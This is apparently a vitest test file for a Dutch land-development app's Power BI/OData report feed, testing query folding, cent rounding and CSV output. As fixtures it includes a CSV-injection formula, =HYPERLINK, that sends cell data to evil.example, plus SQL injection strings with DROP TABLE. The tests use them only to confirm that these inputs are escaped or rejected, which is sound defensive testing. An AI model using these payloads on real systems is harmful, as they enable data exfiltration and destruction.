import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { OData } from '@odata/client';
import { createTestApp, type TestApp } from '../../test/server/app.ts';
import { bearer, createTenant, type Tenant } from '../../test/server/fixtures.ts';
import { seedTree } from '../../test/server/projectFixtures.ts';
import { parseCsdl } from '../../test/server/csdl.ts';
import { model, project } from '../db/schema/index.ts';
import { reportData } from '../services/reportData.ts';
import { reportModelColumns, reportPeriodColumns, type ReportData, type ReportModelRow, type ReportPeriodRow } from '../../src/api/contract/reportData.ts';
import { sectionColumns, type SectionAmounts } from '../../src/model/reportColumns.ts';
import type { ModelData } from '../../src/model/modelData.ts';
import { remapPeriodItems } from '../../src/formulas/periodRemap.ts';
import type { BiLink, BiPassword } from '../../src/api/contract/biLink.ts';

// The BI feed as Power BI and Excel use it (issue 25 items 9–11, issue 22 item 4; docs/bi-links.md): query
// folding ($filter, $orderby with $skip/$top/$count) through a real OData client and as Power Query sends
// it, money in cents and Edm.Decimal, CSV for Dutch Excel, and no formula in any CSV field.

const example = JSON.parse(readFileSync(new URL('../../src/formulas/examples/worked-example.model.json', import.meta.url), 'utf8')) as ModelData;
const quarterly = structuredClone({ ...example, base_parameters: { ...example.base_parameters, phasing_period: 'Quarterly' as const } });
remapPeriodItems(example, quarterly);
/** Forty houses instead of ten: revenues above costs, so book values and results turn negative. */
const profitable: ModelData = { ...quarterly, residential_construction: quarterly.residential_construction.map((r) => ({ ...r, amount: 40 })) };
const EVIL_NUMBER = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
const EVIL_MODEL = '=1+1 Variant';
/** Power Query's own headers on an OData feed request. */
const POWER_QUERY = { 'odata-maxversion': '4.0', 'odata-version': '4.0', accept: 'application/json;odata.metadata=minimal' };

let t: TestApp;
let A: Tenant;
let link: BiLink;
let auth: string;
/** The unfiltered feed (JSON at the link): what every folded query is checked against. */
let feed: ReportData;
let ids: number[];

beforeAll(async () => {
  t = await createTestApp();
  A = await createTenant(t.db, 'bfq');
  const north = await seedTree(t.db, A, { name: 'Plan Noord', roles: { [A.usr.id]: 'USR' } });
  const harbour = await seedTree(t.db, A, { name: "Haven's kwartier", roles: { [A.usr.id]: 'USR' } });
  await t.db.update(project).set({ number: EVIL_NUMBER }).where(eq(project.id, north.projectId));
  const online = await t.db.insert(model).values([
    { createdAt: new Date(), timestampLastModified: new Date(), versionId: north.versionId, name: 'Grondexploitatie', modelPlatform: 'online', modelData: example },
    { createdAt: new Date(), timestampLastModified: new Date(), versionId: north.versionId, name: EVIL_MODEL, modelPlatform: 'online', modelData: quarterly },
    { createdAt: new Date(), timestampLastModified: new Date(), versionId: harbour.versionId, name: 'Havenkwartier', modelPlatform: 'online', modelData: profitable },
  ]).returning();
  ids = [...online.map((m) => m.id), north.modelId];
  const res = await t.app.inject({ method: 'POST', url: '/api/bi/v1/report/', headers: await bearer(t.app, A.usr), payload: { description: 'Power BI', models: ids } });
  link = res.json<BiLink>();
  const p = await t.app.inject({ method: 'POST', url: `/api/bi/v1/report/${link.uuid}/password/`, headers: await bearer(t.app, A.usr) });
  auth = `Basic ${Buffer.from(`grondslag:${p.json<BiPassword>().password}`).toString('base64')}`;
  feed = (await get('')).json<ReportData>();
  expect(feed.perioden.length, JSON.stringify(feed.rekenmodellen.map((r) => r.fout))).toBeGreaterThan(30);
});
afterAll(() => t.close());

/** A GET of the feed at `suffix` (after the link); a second apart on the test clock, below the rate limit. */
const get = (suffix: string, headers: Record<string, string> = {}) =>
  t.clock.advance(1100) ?? t.app.inject({ method: 'GET', url: new URL(link.link).pathname + suffix, headers: { authorization: auth, ...headers } });
const odata = async (query: string) => {
  const res = await get(`odata/${query.replaceAll('$', '%24').replaceAll(' ', '%20').replaceAll("'", '%27')}`, POWER_QUERY);
  return { status: res.statusCode, body: res.json(), headers: res.headers };
};
const byIds = (rows: { rekenmodel_id: number }[]) => rows.map((r) => r.rekenmodel_id);

describe('money on the wire (issue 25 item 10)', () => {
  it('amounts are rounded to cents in JSON, CSV and OData, and declared Edm.Decimal with Scale 2', async () => {
    const raw = await reportData(t.app.ctx, A.clientId, ids);
    const money = ['kosten', 'opbrengsten', 'rente', 'saldo'] as const;
    const cents = (v: number | null) => (v === null ? null : Math.round(v * 100) / 100);
    // The engine's figures carry more than cents (float noise): rounding is visible.
    expect(raw.perioden.some((p) => money.some((k) => p[k] !== null && p[k] !== cents(p[k])))).toBe(true);
    for (const [i, p] of raw.perioden.entries()) for (const k of money) expect(feed.perioden[i][k]).toBe(cents(p[k]));
    for (const [i, m] of raw.rekenmodellen.entries()) {
      for (const k of ['ew', 'ncw', 'verliesvoorziening', 'totale_kosten', 'totale_opbrengsten'] as const) expect(feed.rekenmodellen[i][k]).toBe(cents(m[k]));
      expect(feed.rekenmodellen[i].poc).toBe(m.poc); // a fraction, not money
    }
    expect((await odata('Perioden')).body.value).toEqual(feed.perioden);

    const meta = parseCsdl((await get('odata/$metadata')).body);
    const types = meta.edmx.dataServices.schemas[0].entityTypes;
    const prop = (type: string, name: string) => types.find((e) => e.name === type)!.properties.find((p) => p.name === name)!;
    for (const k of money) expect([String(prop('Periode', k).type), String(prop('Periode', k).scale)]).toEqual(['Edm.Decimal', '2']);
    expect([String(prop('Rekenmodel', 'ew').type), String(prop('Rekenmodel', 'ew').scale)]).toEqual(['Edm.Decimal', '2']);
    expect(String(prop('Rekenmodel', 'poc').type)).toBe('Edm.Double');
  });
});

describe('query folding with a real OData client (@odata/client, over HTTP)', () => {
  let client: ReturnType<typeof OData.New4>;
  beforeAll(async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    client = OData.New4({
      serviceEndpoint: `http://127.0.0.1:${port}${new URL(link.link).pathname}odata/`,
      commonHeaders: { Authorization: auth },
    });
  });

  it('$filter with and, comparisons and a value list; $orderby; $top/$skip; $count; $select', async () => {
    const min = 100_000;
    const chosen = ids.slice(1, 3);
    const filter = client.newFilter().property('saldo').gt(min).property('rekenmodel_id').in(chosen);
    const params = client.newParam().filter(filter).orderby([{ field: 'saldo', order: 'desc' }]).top(5).skip(2).select(['rekenmodel_id', 'periode', 'saldo']);
    const rows = await client.getEntitySet<ReportPeriodRow>('Perioden').query(params);
    const all = feed.perioden.filter((p) => p.saldo > min && chosen.includes(p.rekenmodel_id));
    const sorted = [...all].sort((a, b) => b.saldo - a.saldo || feed.perioden.indexOf(a) - feed.perioden.indexOf(b));
    expect(all.length).toBeGreaterThan(7);
    expect(rows).toEqual(sorted.slice(2, 7).map((p) => ({ rekenmodel_id: p.rekenmodel_id, periode: p.periode, saldo: p.saldo })));
    expect(await client.getEntitySet('Perioden').count(filter)).toBe(all.length);
  });

  it('an unsupported or wrong query is an OData error the client reports with the Dutch message', async () => {
    const set = client.getEntitySet('Rekenmodellen');
    await expect(set.query(client.newFilter().property('bestaatniet' as never).eq(1))).rejects.toThrow('Onbekende eigenschap in $filter: bestaatniet.');
    await expect(set.query(client.newParam().filter('ew add 1 gt 0'))).rejects.toThrow('wordt niet ondersteund');
  });
});

describe('query folding as Power Query sends it (raw requests)', () => {
  const periods = (keep: (p: ReportPeriodRow) => boolean) => feed.perioden.filter(keep);
  const models = (keep: (m: ReportModelRow) => boolean) => feed.rekenmodellen.filter(keep);

  it('comparisons on numbers, dates, tijdstippen and text; and/or/not; null compared as OData says', async () => {
    const [first] = feed.rekenmodellen;
    const cases: [string, ReportPeriodRow[] | ReportModelRow[]][] = [
      ['Perioden?$filter=kosten ge 1000 and opbrengsten eq 0', periods((p) => p.kosten >= 1000 && p.opbrengsten === 0)],
      ['Perioden?$filter=saldo lt 0 or periode le 2', periods((p) => p.saldo < 0 || p.periode <= 2)],
      ['Perioden?$filter=not (saldo gt 0)', periods((p) => !(p.saldo > 0))],
      ['Perioden?$filter=startdatum ge 2025-01-01 and einddatum lt 2026-01-01', periods((p) => p.startdatum !== null && p.startdatum >= '2025-01-01' && p.einddatum! < '2026-01-01')],
      ['Perioden?$filter=rente eq null', periods((p) => p.rente === null)],
      ['Perioden?$filter=rente ne null and rente gt 1000.5', periods((p) => p.rente !== null && p.rente > 1000.5)],
      ['Perioden?$filter=not (rente gt 0)', periods((p) => !(p.rente !== null && p.rente > 0))], // null gt 0 is false
      [`Rekenmodellen?$filter=rekenmodel_id eq ${first.rekenmodel_id}`, [first]],
      [`Rekenmodellen?$filter=laatst_gewijzigd le ${first.laatst_gewijzigd}`, models((m) => m.laatst_gewijzigd <= first.laatst_gewijzigd)],
      ["Rekenmodellen?$filter=project eq 'Haven''s kwartier'", models((m) => m.project === "Haven's kwartier")],
      ["Rekenmodellen?$filter=project gt 'I'", models((m) => m.project > 'I')],
      ['Rekenmodellen?$filter=startdatum eq null', models((m) => m.startdatum === null)],
      ['Rekenmodellen?$filter=ew gt totale_kosten', models((m) => m.ew !== null && m.totale_kosten !== null && m.ew > m.totale_kosten)],
    ];
    for (const [query, rows] of cases) {
      const res = await odata(query);
      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(200);
      expect(byIds(res.body.value), query).toEqual(byIds(rows));
      expect(res.body.value, query).toEqual(rows);
    }
    expect(models((m) => m.startdatum === null).length).toBeGreaterThan(0); // the spreadsheet model: null is exercised
  });

  it('every number literal of the OData 4.01 ABNF: 1e12, 1E+12, 12.5, -3, 1.5e-3, INF, NaN, beyond Int64 (issue 33 §5)', async () => {
    const cost = (m: ReportModelRow) => m.totale_kosten;
    const cases: [string, ReportPeriodRow[] | ReportModelRow[]][] = [
      ['Rekenmodellen?$filter=totale_kosten gt 0 and totale_kosten lt 1e12', models((m) => cost(m) !== null && cost(m)! > 0 && cost(m)! < 1e12)],
      ['Rekenmodellen?$filter=totale_kosten lt 1E%2B6', models((m) => cost(m) !== null && cost(m)! < 1e6)],
      ['Perioden?$filter=kosten ge %2B1.0E3 and kosten le 1.5e6', periods((p) => p.kosten >= 1000 && p.kosten <= 1.5e6)],
      ['Perioden?$filter=kosten gt 12.5 or saldo gt -3', periods((p) => p.kosten > 12.5 || p.saldo > -3)],
      ['Perioden?$filter=kosten gt 1.5e-3', periods((p) => p.kosten > 0.0015)],
      ['Perioden?$filter=rente lt INF and rente gt -INF', periods((p) => p.rente !== null)],
      ['Perioden?$filter=rente lt 12345678901234567890', periods((p) => p.rente !== null)],
      ['Perioden?$filter=saldo lt NaN or saldo ge NaN or saldo eq NaN', []],
      ['Perioden?$filter=saldo ne NaN', feed.perioden],
    ];
    for (const [query, rows] of cases) {
      const res = await odata(query);
      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(200);
      expect(byIds(res.body.value), query).toEqual(byIds(rows));
      expect(res.body.value.length, query).toBe(rows.length);
    }
    expect(periods((p) => p.kosten > 1000 && p.kosten < 1.5e6).length).toBeGreaterThan(0);
    expect((await odata('Perioden?$filter=kosten gt 1e99999')).status).toBe(400);
  });

  it('contains, startswith, endswith (case as written; tolower for Text.Contains with a comparer)', async () => {
    for (const [query, rows] of [
      ["Rekenmodellen?$filter=contains(rekenmodel,'Variant')", models((m) => m.rekenmodel.includes('Variant'))],
      ["Rekenmodellen?$filter=startswith(project,'Plan') and not endswith(rekenmodel,'tie')", models((m) => m.project.startsWith('Plan') && !m.rekenmodel.endsWith('tie'))],
      ["Rekenmodellen?$filter=contains(tolower(project),'haven')", models((m) => m.project.toLowerCase().includes('haven'))],
      ["Rekenmodellen?$filter=contains(project,'haven')", models(() => false)],
      ["Rekenmodellen?$filter=contains(projectnummer,'evil')", models((m) => m.projectnummer?.includes('evil') ?? false)],
      ["Rekenmodellen?$filter=not contains(projectnummer,'evil')", models((m) => !m.projectnummer?.includes('evil'))],
    ] as const) {
      const res = await odata(query);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(byIds(res.body.value), query).toEqual(byIds(rows));
    }
  });

  it('$orderby on every column, both directions, nulls first ascending; ties keep the feed order; paging after sorting', async () => {
    const compare = (a: unknown, b: unknown) => (a === b ? 0 : a === null ? -1 : b === null ? 1 : (a as number) < (b as number) ? -1 : 1);
    for (const column of reportModelColumns()) {
      for (const dir of ['asc', 'desc'] as const) {
        const res = await odata(`Rekenmodellen?$orderby=${column} ${dir}&$select=rekenmodel_id`);
        expect(res.status, JSON.stringify(res.body)).toBe(200);
        const sign = dir === 'asc' ? 1 : -1;
        const expected = [...feed.rekenmodellen].sort((a, b) => sign * compare(a[column], b[column]) || feed.rekenmodellen.indexOf(a) - feed.rekenmodellen.indexOf(b));
        // Text is sorted by the database's collation; compare numbers and dates exactly, text as a set.
        if (typeof feed.rekenmodellen.find((r) => r[column] !== null)?.[column] === 'string' && column !== 'startdatum' && column !== 'einddatum' && column !== 'ncw_datum' && column !== 'laatst_gewijzigd') {
          expect(new Set(byIds(res.body.value)), column).toEqual(new Set(byIds(expected)));
        } else {
          expect(byIds(res.body.value), `${column} ${dir}`).toEqual(byIds(expected));
        }
      }
    }
    const paged = await odata('Perioden?$filter=kosten gt 0&$orderby=rekenmodel_id desc,kosten&$skip=3&$top=4&$count=true');
    const all = feed.perioden.filter((p) => p.kosten > 0)
      .sort((a, b) => b.rekenmodel_id - a.rekenmodel_id || a.kosten - b.kosten || feed.perioden.indexOf(a) - feed.perioden.indexOf(b));
    expect(paged.body['@odata.count']).toBe(all.length);
    expect(paged.body.value).toEqual(all.slice(3, 7));
    expect(paged.headers['odata-version']).toBe('4.0');
    expect(paged.headers['content-type']).toMatch(/^application\/json;odata\.metadata=minimal/);
  });

  it('refuses what it does not translate in the OData error shape, Dutch: 501 unsupported, 400 wrong', async () => {
    for (const [query, status, message] of [
      ['Rekenmodellen?$filter=ew add 1 gt 0', 501, /wordt niet ondersteund/],
      ['Rekenmodellen?$filter=year(startdatum) eq 2024', 501, /De functie year in \$filter wordt niet ondersteund/],
      ['Rekenmodellen?$filter=bestaatniet eq 1', 400, /Onbekende eigenschap in \$filter: bestaatniet/],
      ['Rekenmodellen?$filter=project gt 5', 400, /tekst vergeleken met een getal/],
      ['Rekenmodellen?$filter=startdatum ge 2024-02-30', 400, /Ongeldige waarde/],
      ['Rekenmodellen?$filter=ew', 400, /geen voorwaarde/],
      ['Rekenmodellen?$filter=ew gt', 400, /geen geldige OData-expressie/],
      ["Rekenmodellen?$filter=contains(ew,'1')", 400, /contains verwacht tekst/],
      ['Rekenmodellen?$orderby=bestaatniet', 400, /Onbekende eigenschap in \$orderby/],
      ['Rekenmodellen?$orderby=ew sideways', 400, /geen geldige OData-expressie/],
      [`Rekenmodellen?$filter=${'('.repeat(21)}ew gt 0${')'.repeat(21)}`, 400, /haakjes/],
      [`Rekenmodellen?$filter=${Array.from({ length: 100 }, () => 'ew gt 0').join(' or ')}`, 400, /langer dan 1000 tekens/],
      // Issue 34 finding 4: 239 nodes in 656 characters, refused by the scan before the parser runs.
      [`Rekenmodellen?$filter=${Array.from({ length: 60 }, () => 'ew gt 0').join(' or ')}`, 400, /meer dan 100 onderdelen/],
      [`Rekenmodellen?$filter=${Array.from({ length: 25 }, (_, i) => `project eq '${i} a b c'`).join(' or ')}`, 200, null],
    ] as const) {
      const res = await odata(query);
      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(status);
      if (!message) continue; // within the bounds: words inside a text literal are one value
      expect(res.body.error.code).toBe(String(status));
      expect(res.body.error.message, query).toMatch(message);
    }
  });

  it('text in a query is only ever a value: quotes and SQL in literals and names change nothing', async () => {
    const before = await t.db.execute(sql`SELECT count(*)::int AS n FROM bi_link`);
    for (const query of [
      "Rekenmodellen?$filter=project eq 'x'' OR 1=1; DROP TABLE bi_link; --'",
      "Rekenmodellen?$filter=contains(project,'%') or startswith(project,'_')",
    ]) {
      const res = await odata(query);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.value).toEqual([]);
    }
    expect((await odata('Rekenmodellen?$orderby=ew; DROP TABLE bi_link')).status).toBe(400);
    expect((await odata('Rekenmodellen?$orderby=ew%26$filter=ew gt 0')).body.error.message).toMatch(/^\$orderby is geen geldige OData-expressie/);
    expect((await odata('Rekenmodellen?$filter="ew" gt 0')).status).toBe(400);
    expect((await t.db.execute(sql`SELECT count(*)::int AS n FROM bi_link`)).rows).toEqual(before.rows);
  });
});

describe('CSV (issue 25 item 11, issue 22 item 4)', () => {
  it('dialect=nl: byte order mark, semicolons, decimal comma; the default stays RFC 4180', async () => {
    const nl = await get('?format=csv&set=perioden&dialect=nl');
    expect(nl.statusCode).toBe(200);
    expect(nl.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = nl.body.slice(1).split('\r\n');
    expect(lines[0]).toBe(['rekenmodel_id;project;rekenmodel;periode;label;startdatum;einddatum;kosten;opbrengsten;rente;saldo', ...sectionColumns().map((c) => c.key)].join(';'));
    const p = feed.perioden.find((r) => !Number.isInteger(r.saldo))!;
    const line = lines[feed.perioden.indexOf(p) + 1].split(';');
    expect(line[reportPeriodColumns().indexOf('saldo')]).toBe(String(p.saldo).replace('.', ','));
    expect(line[5]).toBe(p.startdatum);
    const plain = await get('?format=csv&set=perioden');
    expect(plain.body.charCodeAt(0)).not.toBe(0xfeff);
    expect(plain.body.split('\r\n')[0]).toContain('rekenmodel_id,project,');
    const bad = await get('?format=csv&dialect=excel');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('Kies dialect=nl of dialect=rfc4180.');
  });

  it('a project number or model name that is a formula is written as text, negative amounts stay numbers', async () => {
    for (const dialect of ['rfc4180', 'nl']) {
      const models = (await get(`?format=csv&dialect=${dialect}`)).body;
      expect(models).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Klik"")"`);
      expect(models).toContain(`'${EVIL_MODEL}`);
      expect(models).not.toMatch(/(^|[,;])=/m);
      const periods = (await get(`?format=csv&set=perioden&dialect=${dialect}`)).body;
      expect(periods).toContain(`'${EVIL_MODEL}`);
      const negative = feed.perioden.flatMap((r) => [r.kosten, r.opbrengsten, r.rente, r.saldo]).find((v) => v !== null && v < 0 && !Number.isInteger(v))!;
      const text = dialect === 'nl' ? String(negative).replace('.', ',') : String(negative);
      expect(periods).toMatch(new RegExp(`(^|[,;])${text.replace('.', '\\.')}([,;]|\\r\\n)`, 'm'));
      expect(periods).not.toContain(`'${text}`);
    }
    // JSON and OData carry the values as they are: escaping is CSV's business.
    expect(feed.rekenmodellen[0].projectnummer).toBe(EVIL_NUMBER);
  });
});

describe('the section columns: revenue per section, costs per category (issue 24 item 9)', () => {
  const full = JSON.parse(readFileSync(new URL('../../src/formulas/examples/full-exploitation.model.json', import.meta.url), 'utf8')) as ModelData;
  let fullLink: BiLink;
  let fullAuth: string;
  let data: ReportData;
  let fullId: number;
  const pull = (suffix: string) =>
    t.clock.advance(1100) ?? t.app.inject({ method: 'GET', url: new URL(fullLink.link).pathname + suffix.replaceAll('$', '%24').replaceAll(' ', '%20'), headers: { authorization: fullAuth } });
  const keys = sectionColumns().map((c) => c.key);
  const cents = (v: number | null) => Math.round(v! * 100);

  beforeAll(async () => {
    const tree = await seedTree(t.db, A, { name: 'Bedrijventerrein', roles: { [A.usr.id]: 'USR' } });
    const [m] = await t.db.insert(model).values({ createdAt: new Date(), timestampLastModified: new Date(), versionId: tree.versionId, name: 'Volledige exploitatie', modelPlatform: 'online', modelData: full }).returning();
    fullId = m!.id;
    const res = await t.app.inject({ method: 'POST', url: '/api/bi/v1/report/', headers: await bearer(t.app, A.usr), payload: { description: 'Secties', models: [fullId, tree.modelId] } });
    fullLink = res.json<BiLink>();
    const p = await t.app.inject({ method: 'POST', url: `/api/bi/v1/report/${fullLink.uuid}/password/`, headers: await bearer(t.app, A.usr) });
    fullAuth = `Basic ${Buffer.from(`grondslag:${p.json<BiPassword>().password}`).toString('base64')}`;
    data = (await pull('')).json<ReportData>();
  });

  it('$metadata declares every section column in both entity types as money (Edm.Decimal, Scale 2, nullable), after the others', async () => {
    const meta = parseCsdl((await pull('odata/$metadata')).body);
    for (const type of meta.edmx.dataServices.schemas[0].entityTypes) {
      const props = type.properties.map((p) => [p.name, String(p.type), String(p.scale), p.nullable]);
      expect(props.slice(-keys.length), type.name).toEqual(keys.map((k) => [k, 'Edm.Decimal', '2', true]));
    }
  });

  it('JSON: the online model\'s sections add up to its revenues and costs, per model and per period; a spreadsheet model\'s are unknown', () => {
    const [online, sheet] = data.rekenmodellen;
    expect(online!.fout).toBeNull();
    const revenue = sectionColumns().filter((c) => c.revenue);
    const costs = sectionColumns().filter((c) => c.category);
    const close = (a: number, b: number | null) => expect(Math.abs(a - cents(b))).toBeLessThanOrEqual(costs.length);
    close(revenue.reduce((s, c) => s + cents(online![c.key]), 0), online!.totale_opbrengsten);
    close(costs.reduce((s, c) => s + cents(online![c.key]), 0), online!.totale_kosten);
    for (const c of revenue) expect(online![c.key], c.key).toBeGreaterThan(0); // the example has every revenue section
    const periods = data.perioden.filter((p) => p.rekenmodel_id === fullId);
    expect(periods.length).toBeGreaterThan(1);
    for (const p of periods) {
      close(revenue.reduce((s, c) => s + cents(p[c.key]), 0), p.opbrengsten);
      close(costs.reduce((s, c) => s + cents(p[c.key]), 0), p.kosten);
      for (const k of keys) expect(Number.isInteger(Math.round(p[k]! * 100 * 1e6) / 1e6), `${k} in cents`).toBe(true);
    }
    for (const k of keys) expect(sheet![k], k).toBeNull();
    for (const p of data.perioden.filter((r) => r.rekenmodel_id !== fullId)) for (const k of keys) expect(p[k], k).toBeNull();
  });

  it('CSV in both dialects: the section columns in the header, in the contract\'s order, with the JSON\'s amounts', async () => {
    for (const [set, columns, rows] of [['rekenmodellen', reportModelColumns(), data.rekenmodellen], ['perioden', reportPeriodColumns(), data.perioden]] as const) {
      expect(columns.slice(-keys.length)).toEqual(keys);
      for (const dialect of ['rfc4180', 'nl'] as const) {
        const body = (await pull(`?format=csv&set=${set}&dialect=${dialect}`)).body.replace(/^\uFEFF/, '');
        const sep = dialect === 'nl' ? ';' : ',';
        const [header, ...lines] = body.split('\r\n').filter(Boolean);
        expect(header!.split(sep), `${set} ${dialect}`).toEqual([...columns]);
        lines.forEach((line, i) => {
          const fields = line.split(sep).slice(-keys.length);
          const row: SectionAmounts = rows[i]!;
          expect(fields, `${set} ${dialect} row ${i + 1}`).toEqual(keys.map((k) => (row[k] === null ? '' : dialect === 'nl' ? String(row[k]).replace('.', ',') : String(row[k]))));
        });
      }
    }
  });

  it('OData filters and sorts on a section column as on any amount', async () => {
    const res = await pull('odata/Perioden?$filter=opbrengsten_overige gt 0 and kosten_bouwrijp_maken ge 0&$orderby=opbrengsten_niet_woningbouw desc&$select=rekenmodel_id,periode,opbrengsten_overige,opbrengsten_niet_woningbouw');
    expect(res.statusCode, res.body).toBe(200);
    const expected = data.perioden.filter((p) => p.opbrengsten_overige! > 0 && p.kosten_bouwrijp_maken! >= 0)
      .sort((a, b) => b.opbrengsten_niet_woningbouw! - a.opbrengsten_niet_woningbouw! || data.perioden.indexOf(a) - data.perioden.indexOf(b))
      .map((p) => ({ rekenmodel_id: p.rekenmodel_id, periode: p.periode, opbrengsten_overige: p.opbrengsten_overige, opbrengsten_niet_woningbouw: p.opbrengsten_niet_woningbouw }));
    expect(expected.length).toBeGreaterThan(0);
    expect(res.json().value).toEqual(expected);
    const models = await pull('odata/Rekenmodellen?$filter=kosten_verwerving eq null&$select=rekenmodel_id');
    expect(models.json().value).toEqual([{ rekenmodel_id: data.rekenmodellen[1]!.rekenmodel_id }]);
  });
});
